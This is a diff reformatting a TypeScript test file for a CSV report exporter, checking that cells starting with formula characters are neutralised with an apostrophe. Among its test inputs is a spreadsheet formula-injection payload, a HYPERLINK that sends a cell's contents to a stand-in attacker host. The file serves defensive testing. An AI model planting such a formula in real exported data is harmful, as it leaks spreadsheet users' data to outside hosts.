@@ -1,6 +1,11 @@
 import * as fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { csvBom, csvRow, reportCsv, reportCsvHeader } from '../../../../components/reports/export/csv.ts';
+import {
+  csvBom,
+  csvRow,
+  reportCsv,
+  reportCsvHeader,
+} from '../../../../components/reports/export/csv.ts';
 
 /** Reads one row as RFC 4180 says: what a program makes of the file, not what made it. */
 function readRow(text: string): string[] {
@@ -12,7 +17,9 @@ function readRow(text: string): string[] {
 
 describe('a row of CSV', () => {
   test('comes back as it was, whatever stands in it, but for what would run as a formula', () => {
-    const harmless = fc.string({ unit: 'grapheme' }).filter((text) => !/[=+\-@＝＋－＠]|^[\t\r\n]/u.test(text));
+    const harmless = fc
+      .string({ unit: 'grapheme' })
+      .filter((text) => !/[=+\-@＝＋－＠]|^[\t\r\n]/u.test(text));
     fc.assert(
       fc.property(fc.array(harmless, { minLength: 1 }), (values) => {
         expect(readRow(csvRow(values))).toEqual(values);
@@ -20,9 +27,16 @@ describe('a row of CSV', () => {
     );
   });
 
-  test.each(['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '＝1+1', '=HYPERLINK("https://evil.example?"&A1,"x")'])(
-    'with %j runs nothing',
-    (text) => expect(readRow(csvRow([text, 'b']))).toEqual([`'${text}`, 'b']),
+  test.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    ' =1',
+    '＝1+1',
+    '=HYPERLINK("https://evil.example?"&A1,"x")',
+  ])('with %j runs nothing', (text) =>
+    expect(readRow(csvRow([text, 'b']))).toEqual([`'${text}`, 'b']),
   );
 
   test.each([
@@ -43,12 +57,17 @@ describe('a row of CSV', () => {
     ['nothing that is printed', 0],
   ])('runs nothing behind %s', (_name, code) => {
     const mark = String.fromCodePoint(code);
-    expect(readRow(csvRow([`${mark}=1+1`, `${mark} ${mark}@SUM(A1)`]))).toEqual([`'${mark}=1+1`, `'${mark} ${mark}@SUM(A1)`]);
+    expect(readRow(csvRow([`${mark}=1+1`, `${mark} ${mark}@SUM(A1)`]))).toEqual([
+      `'${mark}=1+1`,
+      `'${mark} ${mark}@SUM(A1)`,
+    ]);
     expect(readRow(csvRow([`${mark}a=1`]))).toEqual([`${mark}a=1`]);
   });
 
   test('leaves text that looks like a number as the service sent it, which other programs look for', () => {
-    expect(csvRow(['0012', '1e5', '12345678901234567890', '1/2', 'TRUE', '7.10'])).toBe('0012,1e5,12345678901234567890,1/2,TRUE,7.10\r\n');
+    expect(csvRow(['0012', '1e5', '12345678901234567890', '1/2', 'TRUE', '7.10'])).toBe(
+      '0012,1e5,12345678901234567890,1/2,TRUE,7.10\r\n',
+    );
   });
 
   test('leaves numbers as numbers, and what is not there empty', () => {
@@ -56,7 +75,9 @@ describe('a row of CSV', () => {
   });
 
   test('quotes what a spreadsheet would split or trim', () => {
-    expect(csvRow(['a,b', 'a;b', 'say "x"', 'a\r\nb', ' a'])).toBe('"a,b","a;b","say ""x""","a\r\nb"," a"\r\n');
+    expect(csvRow(['a,b', 'a;b', 'say "x"', 'a\r\nb', ' a'])).toBe(
+      '"a,b","a;b","say ""x""","a\r\nb"," a"\r\n',
+    );
   });
 });
 
@@ -71,12 +92,14 @@ test('A report is a row with the names and the values of the interface, its priv
     hasPassword: false,
     project: null,
   } as const;
-  expect(reportCsvHeader).toBe('id,url,result,score,generated_at,privacy,password,project,link\r\n');
+  expect(reportCsvHeader).toBe(
+    'id,url,result,score,generated_at,privacy,password,project,link\r\n',
+  );
   expect(reportCsv(report, 'https://reports.example.org/7')).toBe(
     '7,"example.com/a,b",good,90,1970-01-01T00:00:00.000Z,private,false,,https://reports.example.org/7\r\n',
   );
-  expect(reportCsv({ ...report, privacy: 0, generatedAt: null, result: null, score: null }, null)).toBe(
-    '7,"example.com/a,b",,,,public,false,,\r\n',
-  );
+  expect(
+    reportCsv({ ...report, privacy: 0, generatedAt: null, result: null, score: null }, null),
+  ).toBe('7,"example.com/a,b",,,,public,false,,\r\n');
   expect(new TextEncoder().encode(csvBom)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
 });
